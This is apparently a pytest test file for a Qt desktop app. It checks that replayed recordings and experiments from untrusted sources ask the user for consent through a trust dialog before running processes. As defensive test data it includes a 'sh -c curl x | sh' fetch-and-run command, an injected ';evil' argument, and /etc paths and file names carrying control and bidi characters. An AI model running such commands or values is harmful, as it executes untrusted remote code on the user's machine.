"""What a stranger wrote is done only when somebody has agreed, by whatever action it would be played."""

import socket
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QDialog, QLabel, QPlainTextEdit, QPushButton

from selcore.experiment.file import parse
from selcore.values import commands as c
from selcore.values.needs import Act, Need
from selcore.values.text import text
from tests.selcore.recipes import opened, recipe
from tests.selcore.recorded import one_by_one, record, recording
from tests.ui.user import User
from ui.compare.dialog import CompareDialog
from ui.session.origin import Asking, Origin, when_allowed


class Asked:
    """Answers the questions of a window, the one about trust with ``answer``."""

    def __init__(self, user: User, monkeypatch: pytest.MonkeyPatch, answer: str = "cancel"):
        self.answer = answer
        self.words: list[str] = []
        self.choices: list[str] = []
        monkeypatch.setattr(user.window.questions, "answers", self._ask)

    def _ask(self, id: str, words: str, choices: list[str]) -> str:
        if id != "experiment.trust":
            return "discard" if "discard" in choices else choices[0]
        self.choices = choices
        self.words.append(words)
        return self.answer


@pytest.fixture
def asked(user: User, monkeypatch: pytest.MonkeyPatch) -> Asked:
    return Asked(user, monkeypatch)


def show_recording(user: User, path: Path, *commands: Any) -> None:
    record(path, *commands)
    show(user, path)


def show(user: User, path: Path) -> None:
    user.window.handlers.experiments.open_recent(path)
    user.settle()
    user.wait_until(lambda: "%" not in user.find(QLabel, "recording.words").text() and user.rows() != [])
    user.settle()


def ended(user: User) -> CompareDialog:
    dialog: CompareDialog = user.find(CompareDialog, "compare")
    user.wait_until(lambda: dialog.comparison is not None and dialog.comparison.ended)
    return dialog


def cancelled(user: User) -> None:
    """It was begun, and that is enough."""
    QTest.keyClick(user.find(CompareDialog, "compare"), Qt.Key.Key_Escape)
    ended(user).reject()


def toucher(path: Path) -> c.Open:
    return c.Open(kind="process", name="p", options={"argv": ["touch", str(path)]})


def gone_after(path: Path) -> bool:
    """Whether it was there; it is no more."""
    found = path.exists()
    path.unlink(missing_ok=True)
    return found


def test_a_recording_that_is_compared_does_nothing_unasked(user: User, asked: Asked, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    show_recording(user, tmp_path / "r.sqlite", toucher(mark), c.Wait(name="p"))
    assert gone_after(mark)
    user.action("experiment.compare").trigger()
    assert len(asked.words) == 1 and f"touch {mark}" in asked.words[0]
    assert user.window.findChild(CompareDialog, "compare") is None and not mark.exists()
    asked.answer = "allow"
    user.action("experiment.compare").trigger()
    ended(user)
    assert len(asked.words) == 2 and gone_after(mark)
    user.action("experiment.compare").trigger()  # it is the same that was allowed
    cancelled(user)
    assert len(asked.words) == 2


def test_what_was_done_here_is_compared_unasked_and_is_a_strangers_as_a_file(
    user: User, asked: Asked, tmp_path: Path
) -> None:
    mark, path = tmp_path / "mark", tmp_path / "e.json"
    user.window.bridge.send(toucher(mark), c.Wait(name="p"))
    user.settle()
    assert gone_after(mark)
    user.action("experiment.compare").trigger()
    cancelled(user)
    assert asked.words == []
    mark.unlink(missing_ok=True)
    user.save(path)
    user.window.handlers.experiments.open_recent(path)
    user.settle()
    assert len(asked.words) == 1 and not mark.exists()
    user.window.handlers.compare.file(path)
    user.settle()
    assert len(asked.words) == 2 and not mark.exists()


def test_a_recording_saved_as_an_experiment_asks_when_it_is_opened(user: User, asked: Asked, tmp_path: Path) -> None:
    mark, path = tmp_path / "mark", tmp_path / "e.json"
    show_recording(user, tmp_path / "r.sqlite", toucher(mark), c.Wait(name="p"))
    assert gone_after(mark) and user.save(path)
    user.action("experiment.compare").trigger()  # saving it made it nobody else's
    user.window.handlers.experiments.open_recent(path)
    user.settle()
    assert len(asked.words) == 2 and not mark.exists()
    asked.answer = "allow"
    user.window.handlers.experiments.open_recent(path)
    user.settle()
    user.wait_until(lambda: not user.window.document.is_playing)
    user.settle()
    assert len(asked.words) == 3 and gone_after(mark)
    asked.answer = "cancel"
    user.action("experiment.compare").trigger()  # it was done here, once it was allowed
    cancelled(user)
    assert len(asked.words) == 3


def test_the_bytes_of_a_recording_are_asked_for_in_a_later_session_too(
    user: User, asked: Asked, tmp_path: Path
) -> None:
    path, mark = tmp_path / "r.sqlite", tmp_path / "mark"
    with recording(path) as (driver, _):
        one_by_one(driver, c.Open(kind="tcp-listener", name="server"), c.Select(timeout=0), toucher(mark))
        host, _, port = driver.objects["server"].address.rpartition(":")
        with socket.create_connection((host, int(port))):
            one_by_one(driver, c.Accept(name="server"), c.Wait(name="p"))
    show(user, path)
    asked.answer = "allow"
    user.action("experiment.compare").trigger()
    QTest.keyClick(user.find(CompareDialog, "compare"), Qt.Key.Key_Escape)
    dialog = ended(user)
    user.do("experiment.new")
    mark.unlink(missing_ok=True)
    asked.answer = "cancel"
    assert dialog.bytes.isVisible()
    dialog.bytes.click()
    assert len(asked.words) == 2 and not mark.exists()
    dialog.reject()


def test_an_experiment_without_a_file_asks_too(user: User, asked: Asked) -> None:
    user.window.handlers.experiments.open_experiment(parse(recipe(opened("process", "p"))))
    assert len(asked.words) == 1 and user.names() == []


# The question itself, as a dialog.


def asked_in_dialog(user: User, monkeypatch: pytest.MonkeyPatch, *commands: dict[str, Any]) -> QDialog:
    monkeypatch.setattr(user.window.questions, "answers", None)
    user.window.handlers.experiments.open_experiment(parse(recipe(*commands)))
    dialog: QDialog = user.find(QDialog, "question.experiment.trust")
    return dialog


def the_list(dialog: QDialog) -> QPlainTextEdit:
    found = dialog.findChild(QPlainTextEdit, "question.list")
    assert isinstance(found, QPlainTextEdit) and found.isReadOnly() and found.accessibleName()
    return found


def test_the_question_is_read_whole_and_enter_cancels_it(user: User, monkeypatch: pytest.MonkeyPatch) -> None:
    long = "x" * 90_000 + ";evil"
    commands = [opened("text-file", f"f{n}", path=f"/etc/{n}\x1b\u202e") for n in range(300)]
    commands.append(opened("process", "p", argv=["sh", "-c", long]))
    dialog = asked_in_dialog(user, monkeypatch, *commands)
    screen, shown = dialog.screen().availableSize(), the_list(dialog)
    assert dialog.width() <= screen.width() and dialog.height() <= screen.height()
    words = shown.toPlainText()
    assert words.replace("\n", "").startswith(f"• starts a process: sh -c '{long}'")
    assert words.endswith(r"• opens /etc/299\x1b\u202e") and words.count("•") == 301
    assert dialog.findChild(QLabel, "question.more") is None
    assert user.find(QLabel, "question.words").text().endswith("Play it?")
    assert shown.horizontalScrollBar().maximum() == 0
    for id in ("allow", "cancel"):
        button: QPushButton = dialog.findChild(QPushButton, f"question.{id}")  # type: ignore[assignment]
        assert button.isVisible() and button.isDefault() is (id == "cancel")
        assert dialog.rect().contains(button.geometry())
    QTest.keyClick(shown, Qt.Key.Key_Return)
    assert not dialog.isVisible() and user.names() == []


def test_what_is_dangerous_stands_in_the_list_however_many_are_like_it(
    user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands = [opened("process", f"p{n}", argv=["true", str(n)]) for n in range(230)]
    dialog = asked_in_dialog(user, monkeypatch, *commands, opened("process", "p", argv=["sh", "-c", "curl x | sh"]))
    lines = the_list(dialog).toPlainText().splitlines()
    assert len(lines) == 231 and lines[-1] == "• starts a process: sh -c 'curl x | sh'"
    dialog.reject()


def test_nobody_can_agree_to_more_than_can_be_read(user: User, asked: Asked, monkeypatch: pytest.MonkeyPatch) -> None:
    needs = [Need(Act.PROCESS, text("starts a process: {n}", n=n)) for n in range(20_001)]
    allowed = list[bool]()
    asking = Asking("{name}: Play it?", "Play it", "{name} asks for more than can be read. It is not played.")
    origin, experiment = Origin(Path("evil\n.json")), parse(recipe())
    when_allowed(user.window.questions, experiment, origin, allowed.append, asking, needs)
    assert asked.choices == ["cancel"]
    assert asked.words[-1].startswith(r"evil\n.json asks for more than can be read. It is not played.")
    when_allowed(user.window.questions, experiment, origin, allowed.append, asking, needs[:20_000])
    assert asked.choices == ["allow", "cancel"] and allowed == []
    assert asked.words[-1].startswith(r"evil\n.json: Play it?")


def test_the_question_is_answered_by_its_button_and_by_escape(user: User, monkeypatch: pytest.MonkeyPatch) -> None:
    pair = opened("text-file", "f", path="/etc/hostname")
    dialog = asked_in_dialog(user, monkeypatch, pair)
    assert the_list(dialog).toPlainText() == "• opens /etc/hostname"
    QTest.keyClick(dialog, Qt.Key.Key_Escape)
    assert not dialog.isVisible()
    user.settle()
    assert user.names() == []
    dialog = asked_in_dialog(user, monkeypatch, pair)
    user.find(QPushButton, "question.allow").click()
    user.wait_until(lambda: user.names() == ["f"])
